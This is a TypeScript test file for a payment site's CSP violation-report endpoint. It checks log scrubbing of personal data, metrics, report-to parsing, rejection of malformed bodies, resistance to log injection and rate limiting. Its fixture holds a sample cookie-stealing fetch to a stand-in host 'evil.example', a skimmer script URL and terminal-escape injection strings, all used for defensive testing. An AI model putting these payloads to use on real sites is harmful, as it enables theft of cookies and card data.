import { Writable } from "node:stream";
import { Registry } from "prom-client";
import { expect, test } from "vitest";
import { createHttpApp } from "../platform/http/app.ts";
import { createLogger } from "../platform/observability/log.ts";
import { parseReport } from "./parse-report.ts";
import { cspReportsRoutes } from "./routes.ts";

const PAYMENT = "0f8fad5b-d9cb-469f-a165-70867728950e";
const report = (more: object = {}) => ({
  "csp-report": {
    "document-uri": `https://prumo.example/pagamento/${PAYMENT}?email=ana@example.com`,
    "effective-directive": "script-src-elem",
    "blocked-uri": "https://evil.example/skim.js?card=4111111111111111",
    "source-file": "https://prumo.example/assets/entry.js?x=1",
    "script-sample": "fetch('//evil.example?'+document.cookie)",
    "line-number": 7,
    ...more,
  },
});

async function anApp({ clock = Date.now } = {}) {
  const lines: string[] = [];
  const sink = new Writable({
    write(chunk, _encoding, done) {
      lines.push(String(chunk));
      done();
    },
  });
  const registry = new Registry();
  const app = await createHttpApp({ log: createLogger("warn", "api", sink) });
  cspReportsRoutes(app, { registry, now: clock });
  const send = (payload: string, type = "application/csp-report") =>
    app.inject({ method: "POST", url: "/v1/public/csp-reports", headers: { "content-type": type }, payload });
  return { app, send, lines, registry };
}

test("a report becomes one short log line without personal data, and a count", async () => {
  const { send, lines, registry } = await anApp();

  expect((await send(JSON.stringify(report()))).statusCode).toBe(204);

  expect(lines).toHaveLength(1);
  expect(JSON.parse(lines[0] ?? "{}")).toMatchObject({
    msg: "CSP violation",
    requestId: expect.any(String),
    violation: {
      page: "payment",
      path: "/pagamento/:id",
      directive: "script-src",
      blocked: "https://evil.example",
      source: "https://prumo.example/assets/entry.js",
      line: 7,
    },
  });
  for (const secret of [PAYMENT, "ana@", "4111", "cookie", "skim"]) expect(lines[0]).not.toContain(secret);
  expect(await registry.metrics()).toContain('csp_reports_total{page="payment",directive="script-src"} 1');
});

test("the report-to format is parsed as well", async () => {
  const body = { documentURL: "https://prumo.example/lp", effectiveDirective: "img-src", blockedURL: "inline" };
  expect(parseReport(JSON.stringify([{ type: "csp-violation", body }]))).toEqual([
    { page: "site", path: "/lp", directive: "img-src", blocked: "inline", source: "", line: 0 },
  ]);
});

test("any other body is neither counted nor logged", async () => {
  const { send, lines, registry } = await anApp();
  const odd = ["", "{", "null", "[]", '{"csp-report":5}', JSON.stringify([{ type: "deprecation", body: {} }])];
  for (const body of odd) expect((await send(body)).statusCode).toBe(204);
  expect((await send("x".repeat(40_000))).statusCode).toBeGreaterThanOrEqual(400);
  expect(lines.filter((line) => line.includes("CSP violation"))).toEqual([]);
  expect(await registry.metrics()).not.toContain("csp_reports_total{");
});

test("an attacker's line breaks and terminal escapes do not reach the log", () => {
  const [violation] = parseReport(
    JSON.stringify(
      report({
        "document-uri": "https://prumo.example/a\u001b[31m%0Ab/4111111111111111",
        "effective-directive": "script-src\nforged",
        "blocked-uri": "\u001b]0;x",
      }),
    ),
  );
  expect(violation).toMatchObject({ directive: "other", blocked: "" });
  expect(violation?.path).toMatch(/^[A-Za-z0-9._~/:-]{1,80}$/);
  expect(violation?.path).not.toContain("4111");
});

test("a flood is counted in full and logged at sixty lines a minute", async () => {
  let at = 0;
  const { send, lines, registry } = await anApp({ clock: () => at });
  const flood = JSON.stringify(report());
  for (let sent = 0; sent < 100; sent += 1) await send(flood);
  expect(lines).toHaveLength(60);
  expect(await registry.metrics()).toContain("} 100");
  at += 60_000;
  await send(flood);
  expect(lines).toHaveLength(61);
});
